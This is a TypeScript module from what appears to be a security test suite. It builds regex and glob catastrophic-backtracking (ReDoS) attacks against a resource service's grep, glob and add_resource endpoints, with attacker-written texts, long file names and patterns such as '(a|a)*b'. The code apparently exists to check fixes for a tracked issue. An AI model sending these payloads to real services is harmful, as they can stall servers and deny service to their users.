/**
 * Issue 23 items 1-2: grep patterns that backtrack (JavaScript's RegExp) and globs that backtrack
 * (search/glob, add_resource `include`), each on text or a name the attacker wrote first.
 */
import { zipSync } from 'fflate';
import type { Attack, AttackContext } from './attacks.js';
import { send, upload, type Answer } from './http.js';

const ROOT = 'viking://resources/stall';
const LONG_LINE = 'a'.repeat(8192);
/** 10 stars against 100 characters: C(100, 10) ≈ 10^13 backtracking paths. */
const TEN_STARS = `${'*a'.repeat(10)}*b`;

async function write(ctx: AttackContext, uri: string, content: string): Promise<void> {
  const res = await send(ctx.base, ctx.attacker, 'POST', '/api/v1/content/write', {
    uri,
    content,
    wait: true, // indexing the text is not part of the attack
  });
  if (res.status !== 200) throw new Error(`write ${uri}: ${res.status} ${JSON.stringify(res.body)}`);
}

function grepAttack(name: string, pattern: string, content: string): Attack {
  const uri = `${ROOT}/grep-${name}`;
  return {
    name: `grep ${pattern}`,
    issue: '23.1',
    prepare: (ctx) => write(ctx, `${uri}/text.md`, content),
    run: (ctx) => send(ctx.base, ctx.attacker, 'POST', '/api/v1/search/grep', { uri, pattern }),
  };
}

function globAttack(name: string, pattern: string, fileName: string): Attack {
  const uri = `${ROOT}/glob-${name}`;
  return {
    name: `glob ${pattern} on ${fileName.length} chars`,
    issue: '23.2',
    prepare: (ctx) => write(ctx, `${uri}/${fileName}`, 'x'),
    run: (ctx) => send(ctx.base, ctx.attacker, 'POST', '/api/v1/search/glob', { uri, pattern }),
  };
}

/** add_resource of a zip whose one file has a long name, with a backtracking `include`. */
const includeAttack: Attack = {
  name: `add_resource include ${TEN_STARS} on 103 chars`,
  issue: '23.2',
  prepare: () => Promise.resolve(),
  async run(ctx): Promise<Answer> {
    const zip = zipSync({ [`kb/${'a'.repeat(100)}.md`]: new TextEncoder().encode('# a\n') });
    const started = performance.now();
    const id = await upload(ctx.base, ctx.attacker, 'kb.zip', zip);
    const body = { temp_file_id: id, include: TEN_STARS, parent: ROOT, wait: false };
    const answer = await send(ctx.base, ctx.attacker, 'POST', '/api/v1/resources', body);
    return { ...answer, ms: performance.now() - started };
  },
};

/** 2 MiB of 8 KiB lines of mixed letters and digits: text a costly (but allowed) pattern must read. */
function mixedText(): string {
  const line = Array.from({ length: 8192 }, (_, i) => 'aZé9xQ'.charAt((i * 7) % 6)).join('');
  return `${line}\n`.repeat(256);
}

export const PATTERN_ATTACKS: readonly Attack[] = [
  grepAttack('alt', '(a|a)*b', `${'a'.repeat(40)}\n`),
  grepAttack('nested', '((a+))+b', `${LONG_LINE}\n`),
  grepAttack('dotstar', '.*.*.*.*x', `${LONG_LINE}\n`),
  grepAttack('costly', '[\\p{L}\\p{N}]{490}z', mixedText()),
  globAttack('issue', `${'*a'.repeat(6)}*b`, 'a'.repeat(70)),
  globAttack('ten', TEN_STARS, 'a'.repeat(100)),
  includeAttack,
];
